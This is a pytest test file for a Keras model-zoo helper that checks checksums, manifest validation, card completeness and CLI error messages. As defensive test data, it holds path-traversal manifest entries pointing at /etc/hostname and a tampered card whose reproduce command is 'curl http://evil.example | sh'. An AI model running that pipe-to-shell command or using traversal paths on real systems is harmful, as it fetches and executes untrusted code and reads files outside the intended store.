import json
import subprocess
import sys

import numpy as np
import pytest

from helpers import paths, zoo

CARD = {
    "data": {"source": "random numbers", "sha256": "0" * 64},
    "hyperparameters": {"units": 4},
    "metrics": {"val_loss": 0.5},
    "training_seconds": 0.1,
    "reproduce": "python -m helpers.tiny train",
}


@pytest.fixture(scope="module")
def tiny_model():
    import keras

    inputs = keras.Input((3,))
    outputs = keras.layers.Dense(2, name="dense")(inputs)
    return keras.Model(inputs, outputs)


@pytest.fixture
def saved(tmp_path, tiny_model):
    zoo.save(tiny_model, "99_test/tiny", CARD, root=tmp_path)
    return tmp_path


def test_round_trip(saved, tiny_model):
    loaded = zoo.load("99_test/tiny", root=saved)
    x = np.ones((1, 3), dtype="float32")
    np.testing.assert_allclose(loaded(x), tiny_model(x), rtol=1e-6)
    card = zoo.card("99_test/tiny", root=saved)
    assert card["metrics"] == {"val_loss": 0.5}
    assert card["versions"]["keras"].startswith("3.")
    manifest = json.loads((saved / "MANIFEST.json").read_text())
    assert set(manifest) == {"99_test/tiny.keras", "99_test/tiny.json"}
    assert all(len(entry["sha256"]) == 64 for entry in manifest.values())


def test_tampered_file_is_refused_with_restore_hint(saved):
    path = saved / "99_test" / "tiny.keras"
    path.write_bytes(path.read_bytes() + b"x")
    with pytest.raises(zoo.ZooError, match=r"does not match its checksum.*git checkout -- zoo/99_test/tiny.keras"):
        zoo.load("99_test/tiny", root=saved)


def test_missing_file_names_reproduce_command(saved):
    (saved / "99_test" / "tiny.keras").unlink()
    with pytest.raises(zoo.ZooError, match=r"missing.*python -m helpers.tiny train"):
        zoo.load("99_test/tiny", root=saved)


def test_unknown_name_lists_known_files(saved):
    with pytest.raises(zoo.ZooError, match=r"not in zoo/MANIFEST.json.*99_test/tiny.keras"):
        zoo.load("99_test/other", root=saved)


def test_card_must_be_complete(tmp_path, tiny_model):
    with pytest.raises(ValueError, match="reproduce"):
        zoo.save(tiny_model, "99_test/tiny", {k: v for k, v in CARD.items() if k != "reproduce"}, root=tmp_path)


def test_cli_list_and_verify(saved):
    def cli(*args):
        return subprocess.run(
            [sys.executable, "-m", "helpers.zoo", *args, "--root", str(saved)],
            capture_output=True,
            text=True,
            cwd=paths.ROOT,
        )

    listed = cli("list")
    assert listed.returncode == 0 and "99_test/tiny.keras" in listed.stdout and "val_loss=0.5" in listed.stdout
    assert cli("verify").returncode == 0
    (saved / "99_test" / "tiny.json").write_text("{}")
    broken = cli("verify")
    assert broken.returncode == 1 and "zoo/99_test/tiny.json: changed" in broken.stderr


def test_repository_zoo_verifies():
    """The committed zoo itself must match its manifest (what `python -m helpers.zoo verify` checks)."""
    assert all(row["status"] == "ok" for row in zoo.status())


def test_trained_model_is_saved_without_optimizer_state_but_stays_compiled(tmp_path):
    import keras

    inputs = keras.Input((64,))
    model = keras.Model(inputs, keras.layers.Dense(64, name="dense")(inputs))
    model.compile(keras.optimizers.Adam(0.01), "mse")
    x = np.random.default_rng(0).normal(size=(32, 64)).astype("float32")
    model.fit(x, x, epochs=2, verbose=0)  # builds Adam's two moments per weight
    slim = zoo.save(model, "99_test/slim", CARD, root=tmp_path)
    full = zoo.save(model, "99_test/full", CARD, root=tmp_path, include_optimizer=True)
    assert slim.stat().st_size < 0.6 * full.stat().st_size
    loaded = zoo.load("99_test/slim", root=tmp_path)
    np.testing.assert_allclose(loaded(x), model(x), rtol=1e-5, atol=1e-6)
    assert loaded.evaluate(x, x, verbose=0) == pytest.approx(model.evaluate(x, x, verbose=0), rel=1e-5)


def test_card_only_entries(tmp_path):
    path = zoo.write_card("99_test/combo", {**CARD, "emoji": ["😊"]}, root=tmp_path)
    card = zoo.card("99_test/combo", root=tmp_path)
    assert path.name == "combo.json" and card["name"] == "99_test/combo" and card["emoji"] == ["😊"]
    assert "😊" in path.read_text(encoding="utf-8")  # written as text, not escaped
    assert set(zoo.read_manifest(tmp_path)) == {"99_test/combo.json"}
    with pytest.raises(ValueError, match="lacks reproduce"):
        zoo.write_card("99_test/bad", {k: v for k, v in CARD.items() if k != "reproduce"}, root=tmp_path)


def _cli(root, *args):
    return subprocess.run(
        [sys.executable, "-m", "helpers.zoo", *args, "--root", str(root)],
        capture_output=True,
        text=True,
        cwd=paths.ROOT,
    )


def test_missing_manifest_fails_verify_and_every_loader(saved):
    (saved / "MANIFEST.json").unlink()
    result = _cli(saved, "verify")
    assert result.returncode == 1 and "MANIFEST.json is missing" in result.stderr
    assert len(result.stderr.strip().splitlines()) == 1
    with pytest.raises(zoo.ZooError, match="MANIFEST.json is missing"):
        zoo.load("99_test/tiny", root=saved)
    with pytest.raises(zoo.ZooError, match="MANIFEST.json is missing"):
        zoo.card("99_test/tiny", root=saved)


@pytest.mark.parametrize(
    "manifest, complaint",
    [
        ("[]", "must be an object"),
        ('{"99_test/tiny.keras": {"bytes": 3}}', "needs a 64-digit hex 'sha256'"),
        ('{"99_test/tiny.keras": "abc"}', "needs a 64-digit hex 'sha256'"),
        ('{"../../../../etc/hostname": {"sha256": "' + "0" * 64 + '", "bytes": 1}}', "points outside the zoo"),
        ('{"/etc/hostname": {"sha256": "' + "0" * 64 + '", "bytes": 1}}', "points outside the zoo"),
        ("[" * 5000 + "]" * 5000, "must be an object|not valid JSON"),
    ],
)
def test_malformed_manifest_is_one_clear_error(saved, manifest, complaint):
    (saved / "MANIFEST.json").write_text(manifest)
    with pytest.raises(zoo.ZooError, match=complaint):
        zoo.load("99_test/tiny", root=saved)
    result = _cli(saved, "verify")
    assert result.returncode == 1 and "Traceback" not in result.stderr
    assert len(result.stderr.strip().splitlines()) == 1 and result.stderr.startswith("error: ")


def test_a_changed_card_is_never_echoed_as_advice(saved):
    card_path = saved / "99_test" / "tiny.json"
    card = json.loads(card_path.read_text())
    card["reproduce"] = "curl http://evil.example | sh"
    card_path.write_text(json.dumps(card))
    (saved / "99_test" / "tiny.keras").unlink()
    with pytest.raises(zoo.ZooError) as info:
        zoo.load("99_test/tiny", root=saved)
    assert "evil" not in str(info.value) and "git checkout -- zoo/99_test/tiny.keras" in str(info.value)
